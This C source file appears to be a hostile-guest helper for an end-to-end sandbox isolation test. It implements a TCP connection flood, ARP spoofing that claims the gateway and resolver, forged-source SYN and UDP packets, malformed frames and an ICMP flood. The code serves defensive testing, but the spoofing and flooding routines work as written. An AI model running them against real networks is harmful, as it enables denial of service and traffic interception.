/*
 * A hostile guest's tool for test/e2e/hostile.test.ts, built static on the host (`gcc -static`) and
 * copied into the guest, where it runs as root. It does what busybox cannot:
 *
 *   hostile flood IP PORT N HOLD   opens N TCP connections at once (non-blocking), waits up to 20 s for
 *                                  them to settle, holds the open ones HOLD seconds; prints
 *                                  "flood opened=.. refused=.. pending=.."
 *   hostile raw IFACE PORT [IP]... writes Ethernet frames of its own (AF_PACKET): ARP replies claiming
 *                                  the gateway, the resolver and the test host; TCP SYNs and UDP
 *                                  datagrams with forged sources to 127.0.0.1, the gateway and each IP
 *                                  at PORT; IPv6; malformed IPv4; other ethertypes; prints "raw sent=.."
 *   hostile icmp IP N              sends N ICMP echo requests from a raw socket as fast as it can and
 *                                  counts the replies for a second; prints "icmp sent=.. replies=.."
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <linux/if_packet.h>

static uint16_t checksum(const void *data, size_t len, uint32_t sum) {
  const uint8_t *p = data;
  for (; len > 1; len -= 2, p += 2) sum += (uint32_t)(p[0] << 8 | p[1]);
  if (len) sum += (uint32_t)(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int flood(const char *ip, int port, int n, int hold) {
  struct rlimit rl = {.rlim_cur = (rlim_t)n + 64, .rlim_max = (rlim_t)n + 64};
  setrlimit(RLIMIT_NOFILE, &rl);
  struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, ip, &sa.sin_addr);
  struct pollfd *p = calloc((size_t)n, sizeof *p);
  int made = 0;
  for (int i = 0; i < n; i++) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) break;
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0 && errno != EINPROGRESS) {
      close(fd);
      continue;
    }
    p[made++] = (struct pollfd){.fd = fd, .events = POLLOUT};
  }
  int opened = 0, refused = 0, pending = made;
  double deadline = now() + 20;
  while (pending > 0 && now() < deadline) {
    if (poll(p, (nfds_t)made, 200) < 0) break;
    for (int i = 0; i < made; i++) {
      if (p[i].fd < 0 || !p[i].revents) continue;
      int err = 0;
      socklen_t len = sizeof err;
      getsockopt(p[i].fd, SOL_SOCKET, SO_ERROR, &err, &len);
      if (err == 0 && !(p[i].revents & (POLLERR | POLLHUP))) {
        opened++;
        p[i].events = 0;
        p[i].revents = 0;
        p[i].fd = ~p[i].fd; /* settled: ignored by poll, kept open */
      } else {
        refused++;
        close(p[i].fd);
        p[i].fd = -1;
      }
      pending--;
    }
  }
  printf("flood made=%d opened=%d refused=%d pending=%d\n", made, opened, refused, pending);
  fflush(stdout);
  sleep((unsigned)hold);
  return 0;
}

struct frame {
  uint8_t b[1600];
  size_t n;
};

static uint8_t my_mac[6], gw_mac[6];

static void eth(struct frame *f, const uint8_t *dst, uint16_t type) {
  memcpy(f->b, dst, 6);
  memcpy(f->b + 6, my_mac, 6);
  f->b[12] = (uint8_t)(type >> 8);
  f->b[13] = (uint8_t)type;
  f->n = 14;
}

static void arp_reply(struct frame *f, const char *claimed, const char *to) {
  static const uint8_t bcast[6] = {255, 255, 255, 255, 255, 255};
  eth(f, bcast, 0x0806);
  uint8_t *a = f->b + 14;
  const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 2};
  memcpy(a, head, 8);
  memcpy(a + 8, my_mac, 6);
  inet_pton(AF_INET, claimed, a + 14);
  memcpy(a + 18, bcast, 6);
  inet_pton(AF_INET, to, a + 24);
  f->n = 14 + 28;
}

static void ipv4(struct frame *f, const char *src, const char *dst, uint8_t proto, const uint8_t *l4, size_t l4n) {
  eth(f, gw_mac, 0x0800);
  uint8_t *ip = f->b + 14;
  memset(ip, 0, 20);
  ip[0] = 0x45;
  ip[2] = (uint8_t)((20 + l4n) >> 8);
  ip[3] = (uint8_t)(20 + l4n);
  ip[4] = (uint8_t)rand();
  ip[8] = 64;
  ip[9] = proto;
  inet_pton(AF_INET, src, ip + 12);
  inet_pton(AF_INET, dst, ip + 16);
  uint16_t c = checksum(ip, 20, 0);
  ip[10] = (uint8_t)(c >> 8);
  ip[11] = (uint8_t)c;
  memcpy(ip + 20, l4, l4n);
  /* TCP and UDP checksums over the pseudo-header. */
  if (proto == 6 || proto == 17) {
    uint8_t *t = ip + 20;
    int off = proto == 6 ? 16 : 6;
    t[off] = t[off + 1] = 0;
    uint32_t sum = 0;
    for (int i = 12; i < 20; i += 2) sum += (uint32_t)(ip[i] << 8 | ip[i + 1]);
    sum += proto + (uint32_t)l4n;
    c = checksum(t, l4n, sum);
    t[off] = (uint8_t)(c >> 8);
    t[off + 1] = (uint8_t)c;
  }
  f->n = 14 + 20 + l4n;
}

static int raw(const char *iface, int port, int nextra, char **extra) {
  int fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
  if (fd < 0) {
    perror("AF_PACKET");
    return 1;
  }
  struct ifreq ifr = {0};
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface);
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) {
    perror("SIOCGIFHWADDR");
    return 1;
  }
  memcpy(my_mac, ifr.ifr_hwaddr.sa_data, 6);
  memset(gw_mac, 0xff, 6);
  FILE *arp = fopen("/proc/net/arp", "r");
  char line[256];
  while (arp && fgets(line, sizeof line, arp)) {
    char ipa[64], mac[64];
    unsigned m[6];
    if (sscanf(line, "%63s %*s %*s %63s", ipa, mac) == 2 && strcmp(ipa, "10.0.2.2") == 0
        && sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6)
      for (int i = 0; i < 6; i++) gw_mac[i] = (uint8_t)m[i];
  }
  if (arp) fclose(arp);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface), .sll_halen = 6};
  int sent = 0;
  struct frame f;
#define SEND()                                                                                               \
  do {                                                                                                       \
    if (sendto(fd, f.b, f.n, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;                             \
  } while (0)
  /* ARP: "the gateway, the resolver and the test host are at my address". */
  const char *claims[] = {"10.0.2.2", "10.0.2.3", "198.51.100.10", "198.51.100.1"};
  for (int r = 0; r < 10; r++)
    for (int i = 0; i < 4; i++) {
      arp_reply(&f, claims[i], "10.0.2.2");
      SEND();
    }
  /* Forged sources to the host's loopback, the gateway and every address given. */
  const char *sources[] = {"127.0.0.1", "10.0.2.2", "10.0.2.3", "198.51.100.1", "198.51.100.10", "10.0.2.15"};
  const char *dsts[64] = {"127.0.0.1", "10.0.2.2", "10.0.2.3"};
  int ndst = 3;
  for (int i = 0; i < nextra && ndst < 64; i++) dsts[ndst++] = extra[i];
  for (int r = 0; r < 3; r++)
    for (int s = 0; s < 6; s++)
      for (int d = 0; d < ndst; d++) {
        uint8_t syn[20] = {0};
        syn[0] = (uint8_t)((40000 + s * 16 + r) >> 8);
        syn[1] = (uint8_t)(40000 + s * 16 + r);
        syn[2] = (uint8_t)(port >> 8);
        syn[3] = (uint8_t)port;
        syn[7] = (uint8_t)rand();
        syn[12] = 5 << 4;
        syn[13] = 0x02; /* SYN */
        syn[14] = 0xff;
        syn[15] = 0xff;
        ipv4(&f, sources[s], dsts[d], 6, syn, sizeof syn);
        SEND();
        uint8_t udp[8 + 16] = {0};
        udp[0] = 0x9c;
        udp[1] = (uint8_t)s;
        udp[2] = (uint8_t)(port >> 8);
        udp[3] = (uint8_t)port;
        udp[5] = sizeof udp;
        memcpy(udp + 8, "GET / HTTP/1.0\r\n", 16);
        ipv4(&f, sources[s], dsts[d], 17, udp, sizeof udp);
        SEND();
      }
  /* Malformed IPv4: a header length past the frame, a fragment, a zero-length total. */
  uint8_t junk[40];
  memset(junk, 0x41, sizeof junk);
  ipv4(&f, "10.0.2.15", "10.0.2.2", 6, junk, sizeof junk);
  f.b[14] = 0x4f;
  SEND();
  ipv4(&f, "10.0.2.15", "127.0.0.1", 6, junk, sizeof junk);
  f.b[14 + 6] = 0x20; /* more fragments */
  SEND();
  ipv4(&f, "10.0.2.15", "10.0.2.2", 17, junk, sizeof junk);
  f.b[16] = f.b[17] = 0;
  SEND();
  /* IPv6 to ::1 and all nodes, and ethertypes nobody speaks. */
  static const uint8_t v6mc[6] = {0x33, 0x33, 0, 0, 0, 1};
  eth(&f, v6mc, 0x86dd);
  memset(f.b + 14, 0, 40 + 20);
  f.b[14] = 0x60;
  f.b[14 + 5] = 20;
  f.b[14 + 6] = 6;
  f.b[14 + 7] = 64;
  f.b[14 + 23] = 1; /* src ::1 */
  f.b[14 + 39] = 1; /* dst ::1 */
  f.n = 14 + 60;
  SEND();
  uint16_t types[] = {0x88cc, 0x8100, 0x8863, 0x0842, 0xffff};
  for (int i = 0; i < 5; i++) {
    eth(&f, gw_mac, types[i]);
    memset(f.b + 14, 0xa5, 100);
    f.n = 114;
    SEND();
  }
  printf("raw sent=%d\n", sent);
  return 0;
}

static int icmp(const char *ip, int n) {
  int fd = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_ICMP);
  if (fd < 0) {
    perror("raw icmp");
    return 1;
  }
  struct sockaddr_in sa = {.sin_family = AF_INET};
  inet_pton(AF_INET, ip, &sa.sin_addr);
  int sent = 0, replies = 0;
  uint8_t pkt[64], in[1600];
  for (int i = 0; i < n; i++) {
    memset(pkt, 0x5a, sizeof pkt);
    pkt[0] = 8;
    pkt[1] = 0;
    pkt[2] = pkt[3] = 0;
    pkt[4] = 0x12;
    pkt[5] = 0x34;
    pkt[6] = (uint8_t)(i >> 8);
    pkt[7] = (uint8_t)i;
    uint16_t c = checksum(pkt, sizeof pkt, 0);
    pkt[2] = (uint8_t)(c >> 8);
    pkt[3] = (uint8_t)c;
    if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&sa, sizeof sa) > 0) sent++;
    else if (errno == ENOBUFS || errno == EAGAIN) usleep(100);
    while (recv(fd, in, sizeof in, 0) > 0)
      if (in[20] == 0) replies++;
  }
  double deadline = now() + 1;
  while (now() < deadline) {
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, 100) > 0)
      while (recv(fd, in, sizeof in, 0) > 0)
        if (in[20] == 0) replies++;
  }
  printf("icmp sent=%d replies=%d\n", sent, replies);
  return 0;
}

int main(int argc, char **argv) {
  srand((unsigned)time(NULL));
  if (argc >= 6 && strcmp(argv[1], "flood") == 0) return flood(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
  if (argc >= 4 && strcmp(argv[1], "raw") == 0) return raw(argv[2], atoi(argv[3]), argc - 4, argv + 4);
  if (argc >= 4 && strcmp(argv[1], "icmp") == 0) return icmp(argv[2], atoi(argv[3]));
  fprintf(stderr, "usage: hostile flood IP PORT N HOLD | raw IFACE PORT [IP]... | icmp IP N\n");
  return 2;
}
